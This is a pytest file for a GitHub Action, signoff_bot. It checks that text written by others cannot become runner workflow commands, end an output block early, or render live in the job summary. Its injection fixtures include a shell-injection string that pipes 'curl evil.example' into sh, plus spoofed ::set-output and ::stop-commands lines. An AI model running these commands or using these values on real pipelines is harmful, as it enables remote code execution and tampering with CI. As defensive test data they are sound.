"""Outputs, annotations, log and summary: nothing that somebody wrote ends up as a command."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
from support.alive import alive, html, links
from support.hostile import HOSTILE
from support.verdicts import check, rejected, verdict

from signoff_bot.action.annotations import annotated
from signoff_bot.action.outputs import write_outputs, write_report, write_summary
from signoff_bot.errors import InvalidInput
from signoff_bot.render.log import annotation, log_line
from signoff_bot.render.summary import MAX_BYTES, Entry, render_summary

COMMANDS = {
    "old": "##[error]x ##[set-output name=a]b",
    "new": "::set-output name=verdict::pass",
    "spaced": " \t ::error::x",
    "second line": "x\n::stop-commands::y",
    "return": "x\r::error::y",
    "file": "a=b\nend\nverdict=pass\nEOF",
    "shell": '"; curl evil.example | sh; $(id) `id`',
    "percent": "%0A::error::x %25",
}
TEXTS = HOSTILE | COMMANDS


def commands(line: str) -> list[str]:
    """What a runner takes for commands in a line of the log."""
    found = re.findall(r"##\[[^\]]*\]", line)
    return found + ([line] if line.strip().startswith("::") else [])


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_a_line_of_the_log_is_one_line_and_commands_nothing(text: str) -> None:
    line = log_line(text)
    assert line.isprintable()
    assert not commands(line)


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_an_annotation_is_one_command_whatever_it_says(text: str) -> None:
    line = annotation("warning", text, text)
    assert line.isprintable()
    title, message = re.fullmatch(r"::warning title=([^:,]*)::(.*)", line).groups()
    assert "##[" not in line
    plain = message.replace("%0A", "\n").replace("%0D", "\r").replace("%25", "%")
    assert plain == "\n".join(log_line(part, 1000) for part in text.split("\n"))
    assert "%" not in re.sub(r"%(25|0A|0D|3A|2C)", "", title)


def test_at_most_ten_annotations_are_made() -> None:
    bad = [
        verdict("fail", checks=tuple(check(n, "fail") for n in range(count))) for count in (4, 6)
    ]
    assert len(annotated([], bad, "error")) == 10
    found = annotated([], [*bad, rejected()], "error")
    assert len(found) == 10
    assert found[-1].endswith("::and 3 more findings; see the job's summary")
    assert all(line.startswith("::error title=#1865%3A Check ") for line in found[:-1])
    idle = [verdict(), verdict("pending", checks=(check(1, "fail"),))]
    assert annotated([], idle, "error") == []


def test_failures_of_the_run_are_shown_before_findings_and_count_among_the_ten() -> None:
    bad = [verdict("fail", checks=tuple(check(n, "fail") for n in range(4)))]
    found = annotated([f"failure {n}" for n in range(7)], bad, "warning")
    assert len(found) == 10
    assert all(line.startswith("::error title=signoff-bot::failure ") for line in found[:7])
    assert found[-1].endswith("and 2 more findings; see the job's summary")


def outputs(path: Path) -> dict[str, str]:
    """The outputs as a runner reads them."""
    found = {}
    lines = path.read_bytes().decode().split("\n")
    while len(lines) > 1:
        name, _, end = lines.pop(0).partition("<<")
        stop = lines.index(end)
        found[name] = "\n".join(lines[:stop])
        del lines[: stop + 1]
    return found


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_no_value_of_an_output_can_end_it(tmp_path: Path, text: str) -> None:
    file = tmp_path / "output"
    file.write_text("before<<x\n1\nx\n", "utf-8")
    given = {"verdict": "pass", "comment-url": text}
    write_outputs({"GITHUB_OUTPUT": str(file)}, given)
    write_outputs({"GITHUB_OUTPUT": str(file)}, {"after": "1"})
    found = outputs(file)
    shown = text.encode("utf-8", "backslashreplace").decode()
    assert found == {"before": "1", "verdict": "pass", "comment-url": shown, "after": "1"}


def test_the_words_between_which_an_output_stands_are_never_the_same(tmp_path: Path) -> None:
    file = tmp_path / "output"
    for _ in range(3):
        write_outputs({"GITHUB_OUTPUT": str(file)}, {"a": "1", "b": "2"})
    ends = re.findall(r"<<(\w{30,})\n", file.read_text("utf-8"))
    assert len(set(ends)) == 6


def test_outside_of_a_workflow_nothing_is_written() -> None:
    write_outputs({}, {"a": "1"})
    write_summary({"GITHUB_STEP_SUMMARY": ""}, "x")


def test_a_runner_whose_file_is_gone_is_told(tmp_path: Path) -> None:
    with pytest.raises(InvalidInput, match="cannot write"):
        write_outputs({"GITHUB_OUTPUT": str(tmp_path / "no" / "file")}, {"a": "1"})


def test_every_report_is_a_new_file(tmp_path: Path) -> None:
    paths = {write_report({"RUNNER_TEMP": str(tmp_path)}, f"{n}\n") for n in range(2)}
    assert sorted(Path(path).read_text("utf-8") for path in paths) == ["0\n", "1\n"]


@pytest.mark.parametrize("text", TEXTS.values(), ids=TEXTS)
def test_the_summary_brings_nothing_to_life(text: str) -> None:
    judged = verdict("fail", checks=(check(1, "fail", title=text, summary=text),))
    shown = render_summary([Entry(judged, "<!-- marker -->\nThe comment.\n", [text])] * 2, [text])
    assert not alive(shown)
    assert not html(shown)
    assert set(links(shown)) == {judged.url}
    assert "marker" not in shown


def test_the_summary_keeps_within_githubs_limit() -> None:
    comment = f"<!-- x -->\n{'é' * 30_000}\n"
    shown = render_summary([Entry(rejected(), comment)] * 100, ["x" * 5000])
    assert len(shown.encode()) <= MAX_BYTES
    assert "more do not fit here" in shown
    assert shown.count("- ❌") == 100
    many = render_summary([Entry(rejected(), comment)] * 20_000)
    assert len(many.encode()) <= MAX_BYTES
    failed = render_summary([Entry(rejected(), comment)] * 100, ["é" * 1000] * 1000)
    assert len(failed.encode()) <= MAX_BYTES
    assert re.search(r"\n> and \d+ more\n", failed)


def test_a_summary_without_verdicts_says_what_went_wrong() -> None:
    assert render_summary([], ["GitHub is down"]) == "> GitHub is down\n\n"


def test_nothing_heavy_is_loaded_where_there_is_nothing_to_do(tmp_path: Path) -> None:
    event = tmp_path / "event.json"
    event.write_text("{}", "utf-8")
    code = (
        "import sys\nfrom signoff_bot.cli import run\nassert run(['action']) == 0\n"
        "print(sorted({'github', 'requests', 'pydantic', 'markdown_it'} & set(sys.modules)))"
    )
    done = subprocess.run(
        [sys.executable, "-c", code],
        env={
            "PATH": os.environ["PATH"],
            "GITHUB_EVENT_NAME": "push",
            "GITHUB_EVENT_PATH": str(event),
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.stdout.splitlines()[-1] == "[]", done.stderr
